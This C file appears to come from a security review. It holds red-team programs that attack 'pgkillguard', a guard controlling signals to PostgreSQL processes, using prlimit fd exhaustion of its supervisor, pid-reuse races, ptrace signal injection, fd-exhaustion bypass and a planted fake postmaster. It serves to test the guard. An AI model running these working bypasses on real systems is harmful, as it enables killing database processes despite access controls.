/*
 * r1.c - red-team attacker programs (review r1 of issue 9).  Run inside an
 * enforced session (`pgkillguard exec`, or a setuid pgkillguard-shell) as a
 * non-root user.  Every system call that matters is raw (syscall(2)), so a
 * preloaded libpgkillguard.so cannot see it.
 *
 *   r1 prlimit SUP SACRIFICE VICTIM SIG
 *        SUP is the supervisor (the setuid shell's pid: getppid() of the
 *        shell it starts).  A racer thread lists SUP/task and calls
 *        prlimit64(TID, RLIMIT_NOFILE, {3,3}) on every thread ($R1_NOFILE
 *        overrides 3; with 0 the supervisor dies in poll(): EINVAL).  The main
 *        thread kill(SACRIFICE, SIGKILL)s: the guard rewrites that into
 *        pg_terminate_backend on an act-as thread that carries OUR uid, so
 *        prlimit's same-uid rule lets us cap the WHOLE supervisor's
 *        RLIMIT_NOFILE.  Then kill(VICTIM, SIG): quick_pass() cannot open
 *        /proc/VICTIM/comm (EMFILE) and answers CONTINUE.
 *        SACRIFICE "self": no cluster process needed, loop
 *        pidfd_send_signal(pidfd(self), SIGWINCH) (also an act-as thread).
 *        Prints "prlimit: hit TID", "supervisor NOFILE: ..." and "kill: ok"
 *        when the signal went through.
 *   r1 tkill SUP SACRIFICE SIG
 *        The same act-as thread, signalled: the racer keeps calling
 *        tkill(TID, SIG) on every thread of SUP (refused: registered).
 *   r1 ptrace PID SIG
 *        PTRACE_ATTACH, wait for the stop, PTRACE_CONT injecting SIG: no
 *        kill-family call at all (known gap, issue 12).
 *   r1 pidrace SOCKET K [ROUNDS]
 *        The documented "pid race" with the window stretched at will.  K
 *        decoy children (not servers) hold a run of pids; K SCHED_IDLE
 *        threads each call kill(decoy, SIGKILL): the supervisor sees a decoy,
 *        answers CONTINUE, and the thread then starves behind CPU hogs.  The
 *        pid counter is cycled (pid_max is small) to just below the decoys,
 *        the decoys exit, K connections to SOCKET make the postmaster fork
 *        backends into the freed pids, the hogs stop, and the starved
 *        kill()s land on backends.  Prints how many kills hit a postgres.
 *   r1 setown PID
 *        fcntl(pipe, F_SETOWN, PID) by raw system call; as a user who may
 *        not signal PID, the refusal message still describes PID's cluster
 *        (data directory read through the supervisor's privileges).
 *   r1 emfile-kill PID SIG
 *        The preload seatbelt: fill every fd slot (open /dev/null until
 *        EMFILE), then libc kill(PID, SIG).  quick_pass() cannot open
 *        /proc/PID/comm and the library lets the call through.
 *   r1 futurerace SOCKET K [ROUNDS]
 *        Simpler: K starving threads kill(-9) the next K pids, which do not
 *        exist yet (quick_pass: no /proc/PID, CONTINUE); then K connections
 *        to SOCKET make the postmaster fork backends into those pids.
 *   r1 fakepm DIR
 *        A planted "cluster" of the caller's own: this process chdir(DIR)s,
 *        calls itself postgres and starts a child titled like a client
 *        backend (also comm postgres); prints "fakepm PM BACKEND" and waits.
 *        DIR/postmaster.pid may be a symlink anywhere: the supervisor opens
 *        it with CAP_DAC_READ_SEARCH, following links, blocking on FIFOs.
 *   r1 rawkill PID SIG
 *        kill(PID, SIG) by raw system call; prints "kill: ERRNO".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdbool.h>
#include <sched.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static const char *en(int e)
{
	switch (e) {
	case 0: return "ok";
	case EPERM: return "EPERM";
	case ESRCH: return "ESRCH";
	case EINVAL: return "EINVAL";
	case ENOSYS: return "ENOSYS";
	case EBADF: return "EBADF";
	case EAGAIN: return "EAGAIN";
	case EMFILE: return "EMFILE";
	default: return strerror(e);
	}
}

static long raw_kill(long pid, long sig)
{
	long r = syscall(SYS_kill, pid, sig);
	return r < 0 ? -errno : 0;
}

static pid_t sup;
static int mode_sig;
static rlim_t nofile = 3;	/* poll() of 2 fds still works; every open() fails */
static atomic_int stop, hit;
static enum { M_PRLIMIT, M_TKILL } mode;

static void *racer(void *unused)
{
	(void)unused;
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/task", (int)sup);
	while (!atomic_load(&stop)) {
		DIR *d = opendir(path);
		struct dirent *de;
		if (!d)
			continue;
		while ((de = readdir(d))) {
			long tid = atol(de->d_name);
			if (tid <= 0 || tid == sup)
				continue;
			if (mode == M_PRLIMIT) {
				struct rlimit rl = {nofile, nofile};
				if (syscall(SYS_prlimit64, tid, RLIMIT_NOFILE, &rl, NULL) == 0) {
					if (!atomic_exchange(&hit, (int)tid))
						printf("prlimit: hit %ld\n", tid);
				}
			} else {
				if (syscall(SYS_tkill, tid, mode_sig) == 0) {
					if (!atomic_exchange(&hit, (int)tid))
						printf("tkill: hit %ld\n", tid);
				}
			}
		}
		closedir(d);
	}
	return NULL;
}

static void show_limits(void)
{
	char path[64], buf[4096];
	snprintf(path, sizeof(path), "/proc/%d/limits", (int)sup);
	FILE *f = fopen(path, "r");
	if (!f) {
		printf("supervisor NOFILE: cannot read %s\n", path);
		return;
	}
	while (fgets(buf, sizeof(buf), f))
		if (strstr(buf, "open files"))
			printf("supervisor NOFILE: %s", buf);
	fclose(f);
}

/* ---- pidrace ---- */

#define MAXK 64
static atomic_int go_kill, hog_run, hog_quit;
static pid_t decoy[MAXK];
static pid_t killer_tid[MAXK];
static volatile long kill_ret[MAXK] = {[0 ... MAXK - 1] = 1};

static int starve_cpu;	/* killers and hogs share this CPU; the rest runs elsewhere */

static void pin_here(void)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(starve_cpu, &set);
	sched_setaffinity(0, sizeof(set), &set);	/* this thread */
}

static void *hog(void *unused)
{
	(void)unused;
	pin_here();
	while (!atomic_load(&hog_quit))
		if (atomic_load(&hog_run))
			for (volatile int i = 0; i < 1000; i++)
				;
		else
			usleep(1000);
	return NULL;
}

static void *killer(void *p)
{
	long i = (long)p;
	struct sched_param sp = {0};

	killer_tid[i] = (pid_t)syscall(SYS_gettid);
	pin_here();
	while (!atomic_load(&go_kill))
		usleep(1000);
	/* still on the CPU: enter kill() at once, but wake from it starving */
	sched_setscheduler(0, SCHED_IDLE, &sp);	/* this thread only */
	kill_ret[i] = raw_kill(decoy[i], SIGKILL);
	return NULL;
}

/* 'S' blocked (waiting for the supervisor), 'R' decided and starving, ... */
static __attribute__((unused)) char thread_state(pid_t tid, long *nr)
{
	char path[96], buf[512];
	FILE *f;
	char st = '?';

	snprintf(path, sizeof(path), "/proc/self/task/%d/stat", (int)tid);
	if ((f = fopen(path, "r"))) {
		if (fgets(buf, sizeof(buf), f)) {
			char *c = strrchr(buf, ')');
			if (c && c[1])
				st = c[2];
		}
		fclose(f);
	}
	snprintf(path, sizeof(path), "/proc/self/task/%d/syscall", (int)tid);
	*nr = -2;
	if ((f = fopen(path, "r"))) {
		if (fscanf(f, "%ld", nr) != 1)
			*nr = -2;
		fclose(f);
	}
	return st;
}

static long last_pid(void)
{
	long v = -1;
	FILE *f = fopen("/proc/sys/kernel/ns_last_pid", "r");
	if (f) {
		if (fscanf(f, "%ld", &v) != 1)
			v = -1;
		fclose(f);
	}
	return v;
}

static bool pid_exists(long p)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%ld", p);
	return access(path, F_OK) == 0;
}

/* fork and reap until the last pid handed out lies in [lo, hi) */
static void cycle_to(long lo, long hi)
{
	if (lo < 301)
		lo = 301;	/* pids wrap to 300 */
	if (hi <= lo)
		return;
	for (long n = 0; n < 100000; n++) {
		long cur = last_pid();
		if (cur >= lo && cur < hi)
			return;
		pid_t c = fork();
		if (c == 0)
			_exit(0);
		waitpid(c, NULL, 0);
	}
}

/* occupy every free pid between the counter and below with a filler */
static void fill_below(long below, int keep_rd, int keep_wr, int other_wr)
{
	for (int f = 0; f < 400; f++) {
		long cur = last_pid(), p;
		for (p = cur + 1; p < below && pid_exists(p); p++)
			;
		if (p >= below || cur >= below)
			return;
		if (fork() == 0) {	/* a filler: lives until we exit */
			char b;
			close(other_wr);
			close(keep_wr);
			(void)!read(keep_rd, &b, 1);
			_exit(0);
		}
	}
}

/* A postgres process that is a child of a postgres process now holds pid? */
static bool held_by_backend(pid_t pid)
{
	char path[64], buf[512];
	FILE *f;
	bool yes = false;

	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	if ((f = fopen(path, "r"))) {
		yes = fgets(buf, sizeof(buf), f) && strstr(buf, "(postgres)");
		fclose(f);
	}
	return yes;
}

/* One round; returns the number of starved kills whose pid a backend took. */
static int pidrace_round(const char *sockpath, int k)
{
	int pfd[2], keep[2], socks[MAXK], pending = 0, reused = 0, both = 0;
	pthread_t ks[MAXK];

	atomic_store(&go_kill, 0);
	for (int i = 0; i < k; i++)
		kill_ret[i] = 1;
	/* every thread first: later clones would take pids past the decoys */
	for (long i = 0; i < k; i++)
		pthread_create(&ks[i], NULL, killer, (void *)i);
	if (pipe(pfd) < 0 || pipe(keep) < 0)
		return 0;
	for (int i = 0; i < k; i++) {
		pid_t c = fork();
		if (c == 0) {
			char b;
			close(pfd[1]);
			(void)!read(pfd[0], &b, 1);
			_exit(0);
		}
		decoy[i] = c;
	}
	/* most of the way first (this host hands out ~600 pids/s by itself) */
	cycle_to(decoy[0] - 400, decoy[0] - 250);
	atomic_store(&go_kill, 1);
	usleep(250000);	/* the supervisor answers CONTINUE; the killers starve */
	cycle_to(decoy[0] - 60, decoy[0]);	/* the rest now */
	fill_below(decoy[0], keep[0], keep[1], pfd[1]);
	long before = last_pid();
	int pend0 = 0;
	for (int i = 0; i < k; i++)
		pend0 += kill_ret[i] == 1;
	close(pfd[1]);	/* decoys exit */
	for (int i = 0; i < k; i++)
		waitpid(decoy[i], NULL, 0);
	for (int i = 0; i < k; i++) {
		struct sockaddr_un sa = {.sun_family = AF_UNIX};
		snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", sockpath);
		socks[i] = socket(AF_UNIX, SOCK_STREAM, 0);
		if (connect(socks[i], (struct sockaddr *)&sa, sizeof(sa)) < 0)
			perror("connect");
	}
	usleep(100000);	/* the postmaster forks */
	for (int i = 0; i < k; i++) {
		bool p = kill_ret[i] == 1, r = held_by_backend(decoy[i]);
		pending += p;
		reused += r;
		both += p && r;
	}
	printf("round: decoys %d..%d, counter %ld, pending at release %d, after the forks %d, "
	       "pids reused by postgres %d, both %d\n", (int)decoy[0], (int)decoy[k - 1], before,
	       pend0, pending, reused, both);
	atomic_store(&hog_run, 0);	/* the starved kills land now */
	for (int i = 0; i < k; i++)
		pthread_join(ks[i], NULL);
	atomic_store(&hog_run, 1);
	for (int i = 0; i < k; i++)
		close(socks[i]);
	close(keep[1]);
	close(keep[0]);
	close(pfd[0]);
	while (waitpid(-1, NULL, WNOHANG) > 0)
		;
	return both;
}

/* futurerace: kill a pid that does not exist yet.  quick_pass() finds no
 * /proc/PID and answers CONTINUE ("the kernel answers"); the caller starves;
 * the postmaster forks a backend with that pid; the kill lands. */
static int futurerace_round(const char *sockpath, int k)
{
	pthread_t ks[MAXK];
	int socks[MAXK], pending = 0, held = 0, both = 0, ok = 0;

	atomic_store(&go_kill, 0);
	for (int i = 0; i < k; i++)
		kill_ret[i] = 1;
	for (long i = 0; i < k; i++)
		pthread_create(&ks[i], NULL, killer, (void *)i);
	usleep(50000);
	long cur = last_pid();
	for (int i = 0; i < k; i++)
		decoy[i] = (pid_t)(cur + 1 + i);	/* not there yet */
	atomic_store(&go_kill, 1);
	usleep(20000);
	/* wait until no killer still waits for the supervisor (state S in kill):
	 * each was answered CONTINUE and now starves (state R) */
	for (int w = 0; w < 200; w++) {
		int waiting = 0;
		long nr;
		for (int i = 0; i < k; i++)
			waiting += kill_ret[i] == 1 && thread_state(killer_tid[i], &nr) == 'S' &&
				   nr == SYS_kill;
		if (!waiting)
			break;
		usleep(5000);
	}
	for (int i = 0; i < k; i++) {
		struct sockaddr_un sa = {.sun_family = AF_UNIX};
		snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", sockpath);
		socks[i] = socket(AF_UNIX, SOCK_STREAM, 0);
		if (connect(socks[i], (struct sockaddr *)&sa, sizeof(sa)) < 0)
			perror("connect");
	}
	usleep(100000);	/* the postmaster forks */
	for (int i = 0; i < k; i++) {
		bool p = kill_ret[i] == 1, r = held_by_backend(decoy[i]);
		pending += p;
		held += r;
		both += p && r;
	}
	printf("futurerace: pids %ld..%ld, kills pending %d, pids now postgres %d, both %d\n",
	       cur + 1, cur + k, pending, held, both);
	atomic_store(&hog_run, 0);	/* the starved kills land now */
	for (int i = 0; i < k; i++)
		pthread_join(ks[i], NULL);
	atomic_store(&hog_run, 1);
	for (int i = 0; i < k; i++)
		ok += kill_ret[i] == 0;
	printf("futurerace: kills answered ok: %d of %d\n", ok, k);
	for (int i = 0; i < k; i++)
		close(socks[i]);
	return both;
}

static int futurerace(const char *sockpath, int k, int rounds)
{
	pthread_t hogs[32];
	int nhogs = 32, hit = 0;

	if (k > MAXK)
		k = MAXK;
	starve_cpu = (int)sysconf(_SC_NPROCESSORS_ONLN) - 1;
	{
		cpu_set_t set;
		CPU_ZERO(&set);
		for (int c = 0; c < starve_cpu; c++)
			CPU_SET(c, &set);
		if (starve_cpu > 0)
			sched_setaffinity(0, sizeof(set), &set);
	}
	atomic_store(&hog_run, 1);
	for (int i = 0; i < nhogs; i++)
		pthread_create(&hogs[i], NULL, hog, NULL);
	for (int r = 0; r < rounds && !hit; r++) {
		hit = futurerace_round(sockpath, k);
		usleep(300000);
	}
	atomic_store(&hog_quit, 1);
	for (int i = 0; i < nhogs; i++)
		pthread_join(hogs[i], NULL);
	printf("futurerace: %s\n", hit ? "a starved kill reached a new backend" : "no hit");
	return 0;
}

static int pidrace(const char *sockpath, int k, int rounds)
{
	pthread_t hogs[32];
	int nhogs = 32, total = 0;

	if (k > MAXK)
		k = MAXK;
	starve_cpu = (int)sysconf(_SC_NPROCESSORS_ONLN) - 1;
	{	/* the main thread (and what it forks) keeps off the starved CPU */
		cpu_set_t set;
		CPU_ZERO(&set);
		for (int c = 0; c < starve_cpu; c++)
			CPU_SET(c, &set);
		if (starve_cpu > 0)
			sched_setaffinity(0, sizeof(set), &set);
	}
	atomic_store(&hog_run, 1);
	for (int i = 0; i < nhogs; i++)
		pthread_create(&hogs[i], NULL, hog, NULL);
	for (int r = 0; r < rounds && !total; r++) {
		total += pidrace_round(sockpath, k);
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
	}
	atomic_store(&hog_quit, 1);
	for (int i = 0; i < nhogs; i++)
		pthread_join(hogs[i], NULL);
	printf("pidrace: %d starved kill(s) reached a postgres process\n", total);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 2 && !strcmp(argv[1], "fakebackend")) {
		prctl(PR_SET_NAME, "postgres");
		pause();
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "fakepm")) {
		if (chdir(argv[2]) < 0)
			return 1;
		prctl(PR_SET_NAME, "postgres");
		pid_t c = fork();
		if (c == 0) {
			char *av[] = {"postgres: pgkgatk postgres [local] idle", "fakebackend", NULL};
			execv("/proc/self/exe", av);
			_exit(127);
		}
		printf("fakepm %d %d\n", (int)getpid(), (int)c);
		pause();
		return 0;
	}
	if (argc == 4 && !strcmp(argv[1], "emfile-kill")) {
		int n = 0;
		while (open("/dev/null", O_RDONLY) >= 0)
			n++;
		int r = kill((pid_t)atol(argv[2]), atoi(argv[3]));	/* libc: preloaded guard */
		int e = r < 0 ? errno : 0;
		close(3);	/* room for stdio */
		printf("emfile-kill after %d opens: %s\n", n, en(e));
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "setown")) {
		int p[2];
		if (pipe(p) < 0)
			return 1;
		long r = syscall(SYS_fcntl, p[0], F_SETOWN, atol(argv[2]));
		printf("setown: %s\n", en(r < 0 ? errno : 0));
		return 0;
	}
	if (argc == 4 && !strcmp(argv[1], "rawkill")) {
		printf("kill: %s\n", en((int)-raw_kill(atol(argv[2]), atol(argv[3]))));
		return 0;
	}
	if ((argc == 4 || argc == 5) && !strcmp(argv[1], "futurerace"))
		return futurerace(argv[2], atoi(argv[3]), argc == 5 ? atoi(argv[4]) : 10);
	if ((argc == 4 || argc == 5) && !strcmp(argv[1], "pidrace"))
		return pidrace(argv[2], atoi(argv[3]), argc == 5 ? atoi(argv[4]) : 5);
	if (argc == 4 && !strcmp(argv[1], "ptrace")) {
		long pid = atol(argv[2]), r;
		int st;
		r = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
		printf("ptrace attach: %s\n", en(r < 0 ? errno : 0));
		if (r < 0)
			return 0;
		waitpid((pid_t)pid, &st, __WALL);
		r = ptrace(PTRACE_CONT, pid, NULL, (void *)atol(argv[3]));
		printf("ptrace cont with signal %s: %s\n", argv[3], en(r < 0 ? errno : 0));
		return 0;
	}
	if ((argc == 6 && !strcmp(argv[1], "prlimit")) || (argc == 5 && !strcmp(argv[1], "tkill"))) {
		pthread_t t;
		long r;
		sup = atoi(argv[2]);
		if (getenv("R1_NOFILE"))
			nofile = (rlim_t)atol(getenv("R1_NOFILE"));
		mode = !strcmp(argv[1], "prlimit") ? M_PRLIMIT : M_TKILL;
		mode_sig = mode == M_TKILL ? atoi(argv[4]) : 0;
		pthread_create(&t, NULL, racer, NULL);
		usleep(20000);
		if (!strcmp(argv[3], "self")) {
			/* no cluster needed: pidfd_send_signal(pidfd(self), SIGWINCH) is
			 * made by the supervisor on an act-as thread; repeat until hit */
			int pfd = (int)syscall(SYS_pidfd_open, getpid(), 0);
			for (int i = 0; i < 20000 && !atomic_load(&hit); i++)
				syscall(SYS_pidfd_send_signal, pfd, SIGWINCH, NULL, 0);
			printf("sacrifice: pidfd_send_signal(self) loop done\n");
		} else {
			r = raw_kill(atol(argv[3]), SIGKILL);	/* rewritten: pg_terminate_backend */
			printf("sacrifice kill: %s\n", en((int)-r));
		}
		usleep(50000);
		atomic_store(&stop, 1);
		pthread_join(t, NULL);
		if (!atomic_load(&hit))
			printf("%s: no hit\n", argv[1]);
		if (mode == M_TKILL)
			return 0;
		show_limits();
		for (int i = 0; i < 3; i++) {	/* the supervisor stays up, failing open */
			r = raw_kill(atol(argv[4]), atol(argv[5]));
			printf("kill: %s\n", en((int)-r));
		}
		return 0;
	}
	fprintf(stderr, "usage: see the comment at the top of r1.c\n");
	return 2;
}
